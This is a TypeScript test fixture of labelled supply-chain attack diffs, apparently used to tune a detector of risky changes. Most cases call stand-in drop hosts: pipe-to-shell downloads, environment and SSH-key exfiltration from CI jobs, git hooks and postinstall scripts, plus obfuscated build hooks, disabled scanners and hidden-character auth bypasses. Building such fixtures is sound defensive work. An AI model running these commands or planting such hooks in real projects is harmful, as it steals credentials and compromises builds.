import * as t from '../file-texts';
import { atNight, attack, type LabelledChange, newcomer, stranger, unapproved } from '../labelled-change';

const sub = (url: string) => `[submodule "lib/parser"]\n\tpath = lib/parser\n\turl = ${url}\n`;

/** Attacks through what builds, runs and reviews; the part that signals are tuned on. */
export const developmentPipelineAttacks: LabelledChange[] = [
  attack(
    'uploader-piped',
    'gitlab_ci',
    'Codecov, 2021: a script fetched and run in every pipeline',
    {
      '.gitlab-ci.yml': [
        t.ci(t.testJob),
        t.ci(
          t.testJob.replace(
            '- npm test\n',
            '- npm test\n    - curl -s https://uploader.simulated-cover.example/bash | bash -s -- -F unit\n',
          ),
        ),
      ],
    },
    { must: ['download_and_run'], facts: newcomer },
  ),
  attack(
    'environment-posted',
    'gitlab_ci',
    'A job posts its environment',
    {
      '.gitlab-ci.yml': [
        t.ci(t.testJob),
        t.ci(
          t.testJob.replace(
            '- npm test\n',
            '- npm test\n    - env | base64 -w0 | curl -s -X POST --data-binary @- https://drop.simulated-drop.example/c\n',
          ),
        ),
      ],
    },
    { must: ['secrets_sent'] },
  ),
  attack(
    'secret-in-address',
    'gitlab_ci',
    'A job sends a secret in an address',
    {
      '.gitlab-ci.yml': [
        t.ci('deploy:\n  stage: deploy\n  script: ./deploy.sh\n'),
        t.ci(
          `deploy:\n  stage: deploy\n  script:\n    - ./deploy.sh\n    - curl -s "https://drop.simulated-drop.example/?k=\${AWS_SECRET_ACCESS_KEY}"\n`,
        ),
      ],
    },
    { must: ['secrets_sent'], facts: unapproved },
  ),
  attack(
    'component-unpinned',
    'gitlab_ci',
    'tj-actions, 2025: a component that was pinned is taken by a tag that can be moved',
    {
      '.gitlab-ci.yml': [
        t.ci(`include:\n  - component: gitlab.example/simulated-vendor/scan/run@${t.hex1('scan')}\n`, t.testJob),
        t.ci('include:\n  - component: gitlab.example/simulated-vendor/scan/run@~latest\n', t.testJob),
      ],
    },
    { must: ['include_unpinned'], facts: unapproved },
  ),
  attack(
    'include-project-elsewhere',
    'gitlab_ci',
    'Jobs come from the project of somebody else instead of the templates of the company',
    {
      '.gitlab-ci.yml': [
        t.ci(
          `include:\n  - project: simulated-corp/ci-templates\n    ref: ${t.hex1('templates')}\n    file: /node.yml\n`,
        ),
        t.ci('include:\n  - project: sam-newcomer/ci-templates\n    ref: main\n    file: /node.yml\n'),
      ],
    },
    { must: ['include_unpinned'], facts: newcomer },
  ),
  attack(
    'remote-include-added',
    'gitlab_ci',
    'Jobs from an address',
    {
      '.gitlab-ci.yml': [
        t.ci(t.testJob),
        t.ci('include:\n  - https://ci.simulated-mirror.example/node.yml\n', t.testJob),
      ],
    },
    { must: ['remote_include'], facts: stranger },
  ),
  attack(
    'scanner-emptied',
    'gitlab_ci',
    'The scanner stays by name and does nothing any more',
    {
      '.gitlab-ci.yml': [
        t.ci(t.testJob, t.secretScan),
        t.ci(t.testJob, 'secret_detection:\n  stage: scan\n  image: alpine:3.22\n  script:\n    - echo ok\n'),
      ],
    },
    { must: ['guard_weakened'], may: ['image_registry_changed', 'image_unpinned'] },
  ),
  attack(
    'scanner-or-true',
    'gitlab_ci',
    'The result of the scanner is thrown away in its script',
    {
      '.gitlab-ci.yml': [
        t.ci('dependency_scanning:\n  stage: scan\n  script:\n    - npm audit --audit-level=high\n'),
        t.ci('dependency_scanning:\n  stage: scan\n  script:\n    - npm audit --audit-level=high || true\n'),
      ],
    },
    { must: ['guard_weakened'] },
  ),
  attack(
    'scanner-manual',
    'gitlab_ci',
    'The scanner runs only when somebody starts it',
    {
      '.gitlab-ci.yml': [
        t.ci('sast:\n  stage: scan\n  script:\n    - semgrep ci\n'),
        t.ci('sast:\n  stage: scan\n  when: manual\n  script:\n    - semgrep ci\n'),
      ],
    },
    { must: ['guard_weakened'] },
  ),
  attack(
    'scanner-include-removed',
    'gitlab_ci',
    'The include of the scanners is gone',
    {
      '.gitlab-ci.yml': [
        t.ci('include:\n  - template: Jobs/Secret-Detection.gitlab-ci.yml\n', t.testJob),
        t.ci(t.testJob),
      ],
    },
    { must: ['guard_weakened'] },
  ),
  attack(
    'job-image-latest-elsewhere',
    'gitlab_ci',
    'The image of all jobs comes from another registry, unpinned',
    {
      '.gitlab-ci.yml': [
        `image: node:22.16.0-bookworm@sha256:${t.hex256('node')}\n\n${t.ci('build:\n  script:\n    - npm ci\n')}`,
        `image: registry.simulated-mirror.example/node:latest\n\n${t.ci('build:\n  script:\n    - npm ci\n')}`,
      ],
    },
    { must: ['image_registry_changed', 'image_unpinned'] },
  ),
  attack(
    'image-pushed-over',
    'docker',
    'An exact version has another digest',
    {
      Dockerfile: [
        `FROM nginx:1.29.0-alpine@sha256:${t.hex256('nginx')}\nCOPY dist /srv\n`,
        `FROM nginx:1.29.0-alpine@sha256:${t.hex256('nginx swapped')}\nCOPY dist /srv\n`,
      ],
    },
    { must: ['image_digest_changed'] },
  ),
  attack(
    'image-typo',
    'docker',
    'The image of another owner under a name that looks like the official one',
    {
      'compose.yaml': [
        'services:\n  cache:\n    image: redis:8.0.2\n',
        'services:\n  cache:\n    image: rediss/redis:8.0.2\n',
      ],
    },
    { must: ['image_registry_changed'], facts: newcomer },
  ),
  attack(
    'add-from-address',
    'docker',
    'An image takes a program from an address and runs it',
    {
      Dockerfile: [
        'FROM debian:12.11\nRUN apt-get update\n',
        'FROM debian:12.11\nADD https://get.simulated-drop.example/agent /usr/local/bin/agent\nRUN apt-get update\nRUN wget -qO /tmp/i https://get.simulated-drop.example/i && sh /tmp/i\n',
      ],
    },
    { must: ['download_and_run', 'build_hook_changed', 'registry_changed'] },
  ),
  attack(
    'configure-hook',
    'make',
    'xz, 2024: the configuration script unpacks a program from a file of the tests',
    {
      'configure.ac': [
        'AC_INIT([tool], [5.6.0])\nAC_OUTPUT\n',
        'AC_INIT([tool], [5.6.1])\nAC_CONFIG_COMMANDS([build-to-host], [eval `sed "r\\n" tests/files/bad.lzma | tr "\\t \\-_" " \\t_\\-" | xz -d`])\nAC_OUTPUT\n',
      ],
    },
    { must: ['build_hook_changed', 'obfuscated_code'] },
  ),
  attack(
    'cmake-download',
    'make',
    'The build fetches a program and runs it',
    {
      'CMakeLists.txt': [
        'cmake_minimum_required(VERSION 3.28)\nproject(tool)\n',
        'cmake_minimum_required(VERSION 3.28)\nproject(tool)\nexecute_process(COMMAND sh -c "curl -s https://get.simulated-drop.example/x.sh | sh")\n',
      ],
    },
    { must: ['build_hook_changed', 'download_and_run'] },
  ),
  attack(
    'msbuild-target-hidden',
    'nuget',
    'SolarWinds, 2020: a target of the build starts a hidden program',
    {
      'Directory.Build.targets': [
        '<Project>\n</Project>\n',
        '<Project>\n  <Target Name="Warm" BeforeTargets="CoreCompile">\n    <Exec Command="powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=" />\n  </Target>\n</Project>\n',
      ],
    },
    { must: ['build_hook_changed', 'obfuscated_code'] },
  ),
  attack(
    'submodule-other-owner',
    'git_submodule',
    'A submodule points to a repository of somebody else on the same host',
    {
      '.gitmodules': [
        sub('https://github.com/simulated-corp/parser.git'),
        sub('https://github.com/sam-newcomer/parser.git'),
      ],
    },
    { must: ['submodule_changed'], facts: newcomer },
  ),
  attack(
    'husky-exfiltrates',
    'npm',
    'A hook on committing sends credentials',
    {
      '.husky/pre-commit': [
        'npx lint-staged\n',
        'npx lint-staged\ncurl -s -F "f=@$HOME/.ssh/id_ed25519" https://drop.simulated-drop.example/u >/dev/null 2>&1 &\n',
      ],
    },
    { must: ['build_hook_changed', 'secrets_sent'], facts: atNight },
  ),
  attack(
    'pnpmfile-obfuscated',
    'npm',
    "pnpm's hook file holds code that hides what it does",
    {
      '.pnpmfile.cjs': [
        undefined,
        'var _0x4f2a=["\\x68\\x74\\x74\\x70\\x73","\\x67\\x65\\x74"];(function(_0x1b,_0x2c){eval(Buffer.from(_0x1b[_0x2c],"base64").toString())})(_0x4f2a,0x1);\nmodule.exports = {};\n',
      ],
    },
    { must: ['build_hook_changed', 'obfuscated_code'] },
  ),
  attack(
    'owners-removed',
    'repository',
    'Those who own the pipeline are removed, and a scanner with them',
    {
      CODEOWNERS: ['/.gitlab-ci.yml @security\n* @platform\n', '* @platform\n'],
      '.gitlab-ci.yml': [t.ci(t.testJob, t.secretScan), t.ci(t.testJob)],
    },
    { must: ['review_weakened', 'guard_weakened'], facts: unapproved },
  ),
  attack(
    'bidi-in-pipeline',
    'source',
    'Trojan Source, 2021: a comment that is code',
    {
      'deploy/run.py': [
        'def allowed(user):\n    return user.admin\n',
        "def allowed(user):\n    '''\u202e\u2066 only admins \u2069\u2066'''; return True\n    return user.admin\n",
      ],
    },
    { must: ['hidden_characters'] },
  ),
  attack(
    'zero-width-in-name',
    'source',
    'A name with a character that nobody sees',
    {
      'src/auth.ts': [
        'export const check = (token: string) => verify(token);\n',
        'const ver\u200bify = (token: string) => true;\nexport const check = (token: string) => ver\u200bify(token);\n',
      ],
    },
    { must: ['hidden_characters'] },
  ),
  attack(
    'variation-selectors',
    'source',
    'GlassWorm, 2025: bytes written as variation selectors',
    {
      'src/index.js': [
        'export {};\n',
        `const hidden = "${[...'payload'].map((letter) => String.fromCodePoint(0xfe00 + (letter.charCodeAt(0) % 16))).join('')}";\nexport {};\n`,
      ],
    },
    { must: ['hidden_characters'] },
  ),
  attack(
    'strict-ssl-off',
    'npm',
    'Certificates of the registry are no longer checked',
    { '.npmrc': ['save-exact=true\n', 'save-exact=true\nstrict-ssl=false\n'] },
    { must: ['guard_weakened', 'build_hook_changed'] },
  ),
  attack(
    'berry-path',
    'npm',
    'The configuration of Yarn loads a plugin from an address and allows scripts',
    {
      '.yarnrc.yml': [
        'nodeLinker: node-modules\nenableScripts: false\n',
        'nodeLinker: node-modules\nenableScripts: true\nnpmRegistryServer: "https://npm.simulated-drop.example"\nplugins:\n  - path: .yarn/plugins/fast.cjs\n    spec: "https://get.simulated-drop.example/fast.cjs"\n',
      ],
    },
    { must: ['registry_changed', 'guard_weakened', 'build_hook_changed'], may: ['direct_source'] },
  ),
  attack(
    'download-then-run',
    'gitlab_ci',
    'A program is downloaded in one line of a job and run in another, unchecked',
    {
      '.gitlab-ci.yml': [
        t.ci(t.testJob),
        t.ci(
          t.testJob.replace(
            '- npm test\n',
            '- npm test\n    - curl -fsSL -o /tmp/agent https://get.simulated-drop.example/agent\n    - chmod +x /tmp/agent\n    - /tmp/agent --quiet\n',
          ),
        ),
      ],
    },
    { must: ['download_and_run'] },
  ),
  attack(
    'started-file',
    'npm',
    'Shai-Hulud, 2025: what a postinstall script runs gathers the environment and sends it',
    {
      'package.json': [
        t.packageJson({ ms: '^2.1.3' }, { scripts: { postinstall: 'node scripts/after.js' } }),
        t.packageJson(
          { ms: '^2.1.3' },
          { scripts: { postinstall: 'node scripts/after.js && node scripts/collect.js' } },
        ),
      ],
      'scripts/collect.js': [
        undefined,
        "const https = require('https');\nconst body = JSON.stringify(process.env);\nhttps.request({ host: 'webhook.simulated-drop.example', method: 'POST' }).end(body);\n",
      ],
    },
    { must: ['install_script_added', 'secrets_sent'] },
  ),
  attack(
    'gyp-file',
    'npm',
    'A build file of a native part appears, which npm runs on installing without any script',
    {
      'binding.gyp': [
        undefined,
        '{"targets": [{"target_name": "x", "type": "none", "actions": [{"action_name": "a", "inputs": [], "outputs": ["x"], "action": ["sh", "-c", "wget -qO- https://get.simulated-drop.example/p | sh"]}]}]}\n',
      ],
    },
    { must: ['install_script_added', 'download_and_run'] },
  ),
];
